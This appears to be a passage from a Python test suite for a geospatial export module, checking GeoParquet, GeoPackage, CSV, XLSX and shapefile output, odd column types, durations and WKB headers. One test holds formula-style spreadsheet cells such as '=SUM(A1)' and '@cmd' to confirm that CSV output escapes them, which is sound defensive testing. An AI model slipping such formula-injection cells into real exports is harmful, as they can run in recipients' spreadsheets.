        [rng.integers(0, 5, n), np.array([f"k{i}" for i in rng.integers(0, 6, n)], dtype=object)]
        for n in (0, 1, 80)
    ]
    first: dict[tuple[int, str], int] = {}
    for row, key in enumerate(zip(*keys, strict=True)):
        first.setdefault(key, row)
    got = export.first_rows(keys, sought)
    for columns, rows in zip(sought, got, strict=True):
        assert rows.tolist() == [first.get(key, -1) for key in zip(*columns, strict=True)]
    assert [r.tolist() for r in export.first_rows([k[:0] for k in keys], sought[1:])] == [
        [-1],
        [-1] * 80,
    ]


# --- GeoParquet, GeoPackage and CSV written through Arrow: what the export wrote before -----
def _assorted(rows: int = 6, crs: int | None = 28992) -> gpd.GeoDataFrame:
    """Every kind of column and geometry a planner's frame can bring, ``rows`` of them."""
    geoms = shapely.from_wkt(
        [
            "POINT (1 2)",
            "LINESTRING Z (0 0 1, 10 0 2)",
            "POLYGON M ((0 0 1, 5 0 1, 5 5 1, 0 0 1))",
            None,
            "POLYGON EMPTY",
            "MULTILINESTRING ((0 0, 1 1), (2 2, 3 3))",
        ]
    )
    day = pd.to_datetime(["2027-01-01", None, "2027-03-05", "1969-12-31", "2031-12-31", None])
    frame = pd.DataFrame(
        {
            "work_id": ["1", "B-2", "C3", "D", "E", "F"],
            "org": [7, "Waternet", None, 2.5, "A", "B"],  # numbers mixed with text
            "start_date": day.astype("datetime64[s]"),
            "end_date": day.tz_localize("Europe/Helsinki"),
            "checked": pd.to_datetime(["2027-01-01 12:30"] * 6),
            "never": pd.Series([pd.NaT] * 6, dtype="datetime64[s]"),
            "cost_eur": [1.5, np.nan, 3.0, 4.0, 5.0, 6.0],
            "excavation": [True, False, True, True, False, True],
            "Street": list("abcdef"),
            "street": list("uvwxyz"),
            "Geometry": list("gggggg"),
        }
    )
    return gpd.GeoDataFrame(frame, geometry=gpd.GeoSeries(geoms, crs=crs)).iloc[:rows]


#: Beyond :data:`GEOMETRIES`: empties with and without heights, a ring, collections.
MORE_GEOMETRIES = [
    "POINT Z EMPTY",
    "MULTIPOLYGON EMPTY",
    "LINEARRING (0 0, 1 0, 1 1, 0 0)",
    "GEOMETRYCOLLECTION (POINT (1 1), LINESTRING Z (0 0 1, 1 1 1))",
    "GEOMETRYCOLLECTION EMPTY",
]


def _as_exported_before(frame: gpd.GeoDataFrame, fmt: str) -> gpd.GeoDataFrame:
    """The frame the writers took before: dates as ``datetime.date`` objects."""
    safe = export._safe_frame(frame, fmt)
    plain = export._arrow_safe(export._dates_as_date(safe), plain=False)
    return gpd.GeoDataFrame(plain, geometry="geometry", crs=safe.crs)


@pytest.mark.parametrize(
    "case",
    [
        "assorted",
        "no crs, index repeated",
        "one row",
        "no rows",
        "no geometry",
        "only geometry",
        "every geometry",
    ],
)
def test_geoparquet_is_what_geopandas_writes(case, tmp_path):
    frame = {
        "assorted": _assorted(),
        "no crs, index repeated": _assorted(crs=None).set_axis([3, 3, 1, 0, 9, 9]),
        "one row": _assorted(1),
        "no rows": _assorted(0),
        "no geometry": _assorted(4, 3067).set_geometry(gpd.GeoSeries([None] * 4, crs=3067)),
        "only geometry": _assorted()[["geometry"]],
        "every geometry": gpd.GeoDataFrame(
            geometry=shapely.from_wkt(GEOMETRIES + MORE_GEOMETRIES), crs=28992
        ),
    }[case]
    ours = export.write(frame, tmp_path / "ours.parquet")
    _as_exported_before(frame, "parquet").to_parquet(
        tmp_path / "theirs.parquet",
        index=False,
        write_covering_bbox=True,
        schema_version="1.1.0",
        row_group_size=export.PARQUET_ROW_GROUP,
    )
    mine, theirs = pq.ParquetFile(ours), pq.ParquetFile(tmp_path / "theirs.parquet")
    assert mine.schema_arrow.equals(theirs.schema_arrow, check_metadata=True)
    assert mine.schema_arrow.metadata == theirs.schema_arrow.metadata  # geo and pandas
    assert mine.metadata.num_row_groups == theirs.metadata.num_row_groups
    assert mine.read().equals(theirs.read())
    back = gpd.read_parquet(ours)
    pd.testing.assert_frame_equal(back, gpd.read_parquet(tmp_path / "theirs.parquet"))
    assert mine.schema_arrow.names[-2:] == ["geometry", "bbox"]
    if case not in ("only geometry", "every geometry"):
        assert mine.schema_arrow.names[-3] == "Geometry_2"


def test_geoparquet_row_groups_and_a_bbox_column_of_the_planner(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "PARQUET_ROW_GROUP", 4)
    frame = pd.concat([_assorted()] * 3, ignore_index=True)
    assert pq.ParquetFile(export.write(frame, tmp_path / "w.parquet")).metadata.num_row_groups == 5
    with pytest.raises(InputError, match="'bbox'.*rename"):
        export.write(frame.assign(bbox=1), tmp_path / "x.parquet")


def test_geopackage_and_csv_hold_what_they_held_before(tmp_path):
    frame = _assorted()
    ours = export.write(frame, tmp_path / "ours.gpkg", layer="works")
    before = _as_exported_before(frame, "gpkg")
    before.to_file(tmp_path / "theirs.gpkg", layer="works", driver="GPKG", use_arrow=True)
    mine, theirs = pyogrio.read_info(ours), pyogrio.read_info(tmp_path / "theirs.gpkg")
    for key in ("fields", "dtypes", "geometry_type", "crs", "features"):
        assert np.array_equal(mine[key], theirs[key]), key
    assert mine["dtypes"][mine["fields"].tolist().index("start_date")] == "datetime64[D]"
    pd.testing.assert_frame_equal(
        pyogrio.read_dataframe(ours), pyogrio.read_dataframe(tmp_path / "theirs.gpkg")
    )
    # CSV: Arrow's writer gets the same table with Arrow dates as with date objects; a
    # column Arrow cannot type goes as its text
    safe = export._safe_frame(frame, "csv")
    now = export.neutralise_csv(export._tabular(safe))
    before = export.neutralise_csv(export._tabular(safe, excel=True))  # date objects
    assert isinstance(now["start_date"].dtype, pd.ArrowDtype)
    assert isinstance(before["start_date"].iloc[0], dt.date)
    arrow = [
        pa.Table.from_pandas(t.drop(columns="org"), preserve_index=False) for t in (now, before)
    ]
    assert arrow[0].equals(arrow[1])
    csv = export.write(frame, tmp_path / "w.csv").read_text(encoding="utf-8")
    org = before["org"]
    text = before.assign(org=org.map(str).where(org.notna(), None))
    expected = tmp_path / "expected.csv"
    options = pacsv.WriteOptions(quoting_header="none")
    pacsv.write_csv(pa.Table.from_pandas(text, preserve_index=False), expected, options)
    assert csv == expected.read_text(encoding="utf-8")
    no_mixed = export.write(frame.drop(columns="org"), tmp_path / "a.csv").read_text(
        encoding="utf-8"
    )
    assert no_mixed.splitlines()[1].split(",")[1:4] == [
        "2027-01-01",
        "2027-01-01",
        "2027-01-01 12:30:00.000000",
    ]


def _odd_columns() -> gpd.GeoDataFrame:
    """Columns no plain field holds as they are: mixed, nested, extension types, durations."""
    frame = pd.DataFrame(
        {
            "mixed": [7, "Waternet", None],
            "nested": [[1, 2], None, [3]],
            "arrow_list": pd.Series([[4, 5], [6], None], dtype=pd.ArrowDtype(pa.list_(pa.int64()))),
            "record": [{"a": 1}, None, {"a": 2}],
            "period": pd.period_range("2027-01", periods=3, freq="M"),
            "interval": pd.interval_range(0, 3),
            "duration": pd.to_timedelta([1, None, 3], unit="D"),
            "name": ["Mühle", "Ødegård", "Kärkkäinen"],
        }
    )
    return gpd.GeoDataFrame(frame, geometry=shapely.points([0, 1, 2], [0, 1, 2]), crs=3067)


#: Each odd column's values as written: the text of each Python value, missing left empty.
ODD_TEXTS = {
    "mixed": ["7", "Waternet", None],
    "nested": ["[1, 2]", None, "[3]"],
    "arrow_list": ["[4, 5]", "[6]", None],
    "record": ["{'a': 1}", None, "{'a': 2}"],
    "period": ["2027-01", "2027-02", "2027-03"],
    "interval": ["(0, 1]", "(1, 2]", "(2, 3]"],
    "duration": ["1 days", None, "3 days"],
    "name": ["Mühle", "Ødegård", "Kärkkäinen"],
}


@pytest.mark.parametrize("suffix", ["csv", "gpkg", "zip"])
def test_plain_formats_write_mixed_nested_and_extension_columns_as_their_text(suffix, tmp_path):
    """One column each, one text per value: nothing flattened, renamed, lost or turned into 0."""
    path = export.write(_odd_columns(), tmp_path / f"odd.{suffix}")
    if suffix == "csv":
        back = pacsv.read_csv(
            path,
            convert_options=pacsv.ConvertOptions(
                column_types=dict.fromkeys(ODD_TEXTS, pa.string())
            ),
        ).to_pandas()
        back = back.drop(columns="geometry").replace({"": None})
    else:
        source = f"/vsizip/{path}/odd.shp" if suffix == "zip" else path
        back = pyogrio.read_dataframe(source, read_geometry=False)
        assert list(pyogrio.read_info(source)["dtypes"]) == ["object"] * len(ODD_TEXTS)
    assert list(back.columns) == list(ODD_TEXTS)
    for col, texts in ODD_TEXTS.items():
        assert back[col].astype(object).where(back[col].notna(), None).tolist() == texts, col


def test_xlsx_writes_nested_and_extension_columns_as_the_csv_text(tmp_path):
    """Excel cells: text stays text, numbers stay numbers, a nested value is the CSV's text."""
    path = export.write(_odd_columns().drop(columns="duration"), tmp_path / "odd.xlsx")
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    header, cells = rows[0], rows[1:]
    assert list(header) == [c for c in ODD_TEXTS if c != "duration"] + ["geometry"]
    for i, col in enumerate(header[:-1]):
        expected = ODD_TEXTS[col]
        if col == "mixed":
            expected = [7, "Waternet", None]  # a number stays a number, text stays text
        assert [row[i] for row in cells] == expected, col


def test_geoparquet_keeps_nested_and_extension_columns_and_writes_mixed_as_text(tmp_path):
    path = export.write(_odd_columns(), tmp_path / "odd.parquet")
    table = pq.read_table(path)
    assert table.column("mixed").to_pylist() == ODD_TEXTS["mixed"]
    assert table.column("nested").to_pylist() == [[1, 2], None, [3]]
    assert table.column("record").to_pylist() == [{"a": 1}, None, {"a": 2}]
    assert table.column("duration").type == pa.duration("us")
    assert table.column("name").to_pylist() == ODD_TEXTS["name"]


def _durations() -> gpd.GeoDataFrame:
    """Durations as timedelta64, Arrow durations and Timedelta objects, each with a gap."""
    frame = pd.DataFrame(
        {
            "duration": pd.to_timedelta([1, None, 3], unit="D"),
            "arrow": pd.Series([86400 * 2, None, 5400], dtype=pd.ArrowDtype(pa.duration("s"))),
            "objects": pd.Series(
                [pd.Timedelta(days=4), None, pd.Timedelta(hours=36)], dtype=object
            ),
        }
    )
    return gpd.GeoDataFrame(frame, geometry=shapely.points([0, 1, 2], [0, 1, 2]), crs=3067)


#: The text each duration is written as, in every format (missing left empty); a column
#: with a part of a day writes every value with its time.
DURATION_TEXTS = {
    "duration": ["1 days", None, "3 days"],
    "arrow": ["2 days 00:00:00", None, "0 days 01:30:00"],
    "objects": ["4 days 00:00:00", None, "1 days 12:00:00"],
}


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "geojson", "gpkg", "zip"])
def test_every_format_writes_a_duration_as_the_same_text(suffix, tmp_path):
    path = export.write(_durations(), tmp_path / f"d.{suffix}")
    if suffix == "csv":
        back = pd.read_csv(path, dtype=str, keep_default_na=False).replace({"": None})
    elif suffix == "xlsx":
        rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
        back = pd.DataFrame(rows[1:], columns=rows[0])
    else:
        source = f"/vsizip/{path}/d.shp" if suffix == "zip" else path
        back = pyogrio.read_dataframe(source, read_geometry=False)
    for col, texts in DURATION_TEXTS.items():
        got = back[col].astype(object).where(back[col].notna(), None).tolist()
        assert got == texts, (suffix, col)


@pytest.mark.parametrize("dtype", ["string", "string[pyarrow]", "str", object])
def test_a_text_column_with_missing_cells_is_neutralised_cell_by_cell(dtype):
    # a missing cell among text cells, next to formulas and plain numbers written as text
    cells = ["=SUM(A1)", None, "-12.5", "+31 6 1234", "plain", "@cmd"]
    out = export.neutralise_csv(pd.DataFrame({"note": pd.Series(cells, dtype=dtype)}))
    expected = [export.CSV_ESCAPE + "=SUM(A1)", None, "-12.5", export.CSV_ESCAPE + "+31 6 1234",
                "plain", export.CSV_ESCAPE + "@cmd"]  # fmt: skip
    got = [None if pd.isna(v) else v for v in out["note"]]
    assert got == expected


def test_wkb_type_codes_read_each_headers_type_in_its_byte_order() -> None:
    import struct

    rng = np.random.default_rng(9)
    shapes = [shapely.Point(1, 2), shapely.Point(1, 2, 3), shapely.LineString([(0, 0), (1, 1)]),
              shapely.MultiLineString([[(0, 0), (1, 1)], [(2, 2), (3, 3)]]),
              shapely.Polygon([(0, 0), (1, 0), (1, 1)]),
              shapely.GeometryCollection([shapely.Point(0, 0)])]  # fmt: skip
    blobs = [
        shapely.to_wkb(shapes[k], byte_order=int(order), flavor=flavor)
        for k, order, flavor in zip(
            rng.integers(0, len(shapes), 300), rng.integers(0, 2, 300),
            rng.choice(["iso", "extended"], 300), strict=True,
        )
    ]  # fmt: skip
    starts = np.cumsum([0] + [len(b) for b in blobs[:-1]])
    data = np.frombuffer(b"".join(blobs), dtype=np.uint8)
    # one header at a time, as the format defines it
    want = [struct.unpack("<I" if b[0] == 1 else ">I", b[1:5])[0] for b in blobs]
    got = export.wkb_type_codes(data, starts)
    assert got.dtype == np.uint32 and got.tolist() == want
    assert export.wkb_type_codes(data, np.zeros(0, np.int64)).tolist() == []
